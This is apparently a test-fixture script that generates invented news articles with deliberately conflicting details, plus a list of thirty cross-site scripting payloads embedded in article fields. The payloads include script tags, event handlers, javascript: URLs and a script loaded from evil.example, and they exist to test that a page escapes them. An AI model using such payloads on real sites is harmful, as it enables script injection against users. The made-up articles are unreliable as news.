// Invented articles for the tests of the page: a library of more than 200 in about 20 stories, one of
// them of 46 accounts and one of two, and the payloads that must stay text.
//   node tests/web/articles.mjs > library.jsonl
import { fileURLToPath } from 'node:url';

// A small generator of numbers, so that the same library is made everywhere.
function numbers(seed) {
  let state = seed >>> 0;
  return (below) => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
}

const heads = ['Bel', 'Cor', 'Dra', 'Fen', 'Gal', 'Hes', 'Jor', 'Kel', 'Lun', 'Mor', 'Nes', 'Ost', 'Pel', 'Quil', 'Ros', 'Sten', 'Tor', 'Ulm', 'Ves', 'Wyn'];
const tails = ['adon', 'avik', 'enmoor', 'esta', 'iford', 'imar', 'olund', 'ora', 'ovia', 'uskel'];
const firsts = ['Anna', 'Peter', 'Maria', 'Robert', 'Laura', 'Thomas', 'Julia', 'Martin', 'Helen', 'Simon'];
const outlets = ['Courier', 'Gazette', 'Observer', 'Wire', 'Tribune', 'Herald', 'Chronicle', 'Dispatch', 'Bulletin', 'Monitor'];

const themes = [
  {
    title: ['Ferry sinks off {A}', '{A} ferry disaster: rescue goes on', 'Dozens feared dead as ferry goes down near {A}'],
    lines: [
      ['A ferry with {n} people on board sank off {A} on {day}, the coast guard said.', 'The coast guard said on {day} that a ferry carrying {n} people had sunk off {A}.', 'Off {A}, a ferry with {n} people on board went down on {day}.'],
      ['Rescuers pulled {m} bodies from the water, the coast guard said.', 'At least {m} people were killed, according to the coast guard.', 'The coast guard said {m} people had died.'],
      ['"The water came in within minutes," {P} told reporters at the harbour.', '{P} told reporters: "The water came in within minutes."'],
      ['Transport Minister {Q} said the ferry had been inspected in {month}.', 'The ferry was inspected in {month}, Transport Minister {Q} said.'],
      ['The owner, {A} Lines, denied that the vessel had been overloaded.', '{A} Lines denied on {day2} that the ferry had been overloaded.'],
      ['Divers from {B} joined the search on {day2}.', 'On {day2}, divers from {B} joined the search.'],
      ['Relatives waited at the harbour of {A} through the night.', 'Through the night relatives waited at the harbour of {A}.'],
    ],
  },
  {
    title: ['{A} and {B} resume truce talks', 'Envoy in {A} to save truce with {B}', 'Truce talks between {A} and {B} falter'],
    lines: [
      ['Envoy {P} met President {Q} of {A} on {day} and urged her to accept a cease-fire with {B}.', 'President {Q} of {A} met envoy {P} on {day} to discuss a cease-fire with {B}.', '{P}, the envoy, urged President {Q} of {A} on {day} to accept a cease-fire with {B}.'],
      ['{B} demanded that {n} prisoners be released before any truce.', 'Before any truce {n} prisoners must be released, {B} demanded.', '{B} demands the release of {n} prisoners.'],
      ['{A} rejected a withdrawal of its forces from the border.', 'A withdrawal of its forces from the border was rejected by {A}.'],
      ['"We are closer than last week," {P} said.', '{P} said: "We are closer than last week."', '"We are closer than last month," {P} said.'],
      ['Shelling killed {m} people near the border on {day2}, hospital officials said.', 'Hospital officials said shelling near the border had killed {m} people on {day2}.'],
      ['A new round of talks is planned in {C} on Friday.', 'The two sides will meet again in {C} on Friday.'],
      ['{B} accepted the plan for the corridors but set conditions for monitors.', '{B} said it accepted the plan for the corridors, with conditions for the monitors.'],
      ['{A} refused to discuss the status of the valley.', 'The status of the valley is not up for discussion, {A} said.'],
    ],
  },
  {
    title: ['Strike shuts the mines of {A}', 'Miners of {A} walk out over pay', '{A} mine strike enters second week'],
    lines: [
      ['{n} miners walked out in {A} on {day} over pay, their union said.', 'Over pay {n} miners walked out in {A} on {day}, according to the union.', 'The union said {n} miners had walked out in {A} on {day}.'],
      ['The union demands a pay rise of {m} percent.', 'A pay rise of {m} percent is what the union demands.'],
      ['"We will stay out until they listen," union leader {P} said.', 'Union leader {P} said: "We will stay out until they listen."'],
      ['The company, {B} Minerals, said it had offered four percent.', '{B} Minerals said it had offered four percent.'],
      ['Labour Minister {Q} offered to mediate on {day2}.', 'On {day2} Labour Minister {Q} offered to mediate.'],
      ['Police in {A} arrested six people at a picket on {day2}.', 'Six people were arrested at a picket in {A} on {day2}, police said.'],
    ],
  },
  {
    title: ['Dam breach floods {A}', 'Thousands flee as {A} dam gives way', 'Floods after dam fails above {A}'],
    lines: [
      ['A dam above {A} gave way on {day} and flooded {n} homes.', 'On {day} a dam gave way above {A}, flooding {n} homes.', 'Some {n} homes were flooded when a dam above {A} gave way on {day}.'],
      ['At least {m} people were killed, rescue officials said.', 'Rescue officials said {m} people had been killed.'],
      ['Governor {Q} declared an emergency.', 'An emergency was declared by Governor {Q}.'],
      ['Engineers had warned of cracks in the dam in {month}, {P} said.', '{P} said engineers had warned of cracks in {month}.'],
      ['The army sent boats from {B} on {day2}.', 'From {B} the army sent boats on {day2}.'],
      ['"Nobody told us to leave," said {P}, whose house was lost.', '{P}, whose house was lost, said: "Nobody told us to leave."'],
    ],
  },
];

const days = ['Monday', 'Tuesday', 'Wednesday', 'Thursday'];
const months = ['January', 'March', 'May', 'June'];

function storyOf(index, accounts) {
  const theme = themes[index % themes.length];
  const next = numbers(7919 * (index + 1));
  const name = (k) => heads[(index * 3 + k * 7) % heads.length] + tails[(index * 7 + k * 3) % tails.length];
  const person = (k) => `${firsts[(index + k * 3) % firsts.length]} ${name(5 + k)}`;
  const truth = { A: name(0), B: name(1), C: name(2), P: person(0), Q: person(1), n: 120 + 10 * ((index * 37) % 80), m: 6 + ((index * 5) % 20), day: days[index % 4], day2: days[(index + 1) % 4], month: months[index % 4] };
  const date = new Date(Date.UTC(2032, index % 12, 4 + (index % 20)));
  return Array.from({ length: accounts }, (_, account) => {
    const facts = { ...truth };
    if (account % 5 === 4) facts.m = truth.m + 9;
    if (account % 7 === 3) facts.n = truth.n + 40;
    if (account % 9 === 5) facts.month = months[(index + 1) % 4];
    const fill = (text) => text.replace(/\{(\w+)\}/g, (_, key) => String(facts[key]));
    const pick = (all) => all[next(all.length)];
    const told = theme.lines.filter((_, i) => i < 2 || next(4) > 0).map((line) => fill(pick(line)));
    const published = new Date(date.getTime() + 86_400_000 * (account % 3));
    const outlet = `${heads[account % heads.length]}${tails[Math.floor(account / heads.length) % tails.length]} ${outlets[account % outlets.length]}`;
    return {
      title: fill(theme.title[account % theme.title.length]), text: told.join('\n\n') + '\n',
      url: `https://news${account}.example/${index}/${account}`, source: outlet, date: published.toISOString().slice(0, 10),
    };
  });
}

// Twenty stories, 214 articles: of 46 accounts, of two, and eighteen between seven and eleven.
export function library() {
  const sizes = [46, ...Array.from({ length: 18 }, (_, i) => 7 + (i % 5)), 2];
  const order = [1, 0, 2, 3, 5, 4, 6, 7, 9, 8, 10, 11, 13, 12, 14, 15, 17, 16, 18, 19];
  return sizes.flatMap((size, i) => storyOf(order[i], size));
}

const script = 'window.__pwned = (window.__pwned || 0) + 1';

// Thirty ways to be taken for something other than text.
export const payloads = [
  `<script>${script}</script>`, `<img src=x onerror="${script}">`, `"><svg onload="${script}">`, `'"--></style></script><script>${script}</script>`,
  `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`, `<a href="javascript:${script}">link</a>`, `<details open ontoggle="${script}">`,
  `<body onload="${script}">`, `<input autofocus onfocus="${script}">`, `<math><mtext></mtext><script>${script}</script></math>`,
  `<style>@import "javascript:${script}"; body{display:none}</style>`, `<link rel=stylesheet href="data:text/css,body{display:none}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${script}">`, `<object data="javascript:${script}"></object>`, `<embed src="javascript:${script}">`,
  `<form action="javascript:${script}"><button>go</button></form>`, `<video><source onerror="${script}"></video>`, `<template><script>${script}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`, `&lt;script&gt;${script}&lt;/script&gt;`, `{{constructor.constructor('${script}')()}}`,
  `\${${script}}`, `<%= ${script} %>`, `javascript:${script}`, `data:text/html,<script>${script}</script>`, `\u202e<script>${script}</script>`,
  `<scr\u0000ipt>${script}</scr\u0000ipt>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `</title><script>${script}</script>`, `<base href="https://evil.example/">`,
];

// One story whose articles carry a payload as text, title, outlet and address.
export function hostile() {
  return payloads.map((payload, i) => ({
    title: `Lighthouse keeper of Ostravik resigns ${payload}`,
    text: `The lighthouse keeper of Ostravik, Helen Wynora, resigned on Tuesday after ${20 + (i % 3)} years. ${payload} said Helen Wynora.\n\n"The lamp was never the problem," Wynora told the harbour council. The council of Ostravik accepted her resignation. ${payload}\n`,
    url: i % 2 ? payload : `https://evil.example/${encodeURIComponent(payload)}`, source: `Outlet ${i} ${payload}`, date: '2032-02-03',
  }));
}

export const jsonl = (rows) => rows.map((row) => JSON.stringify(row) + '\n').join('');

if (process.argv[1] === fileURLToPath(import.meta.url)) process.stdout.write(jsonl(process.argv[2] === 'hostile' ? hostile() : library()));
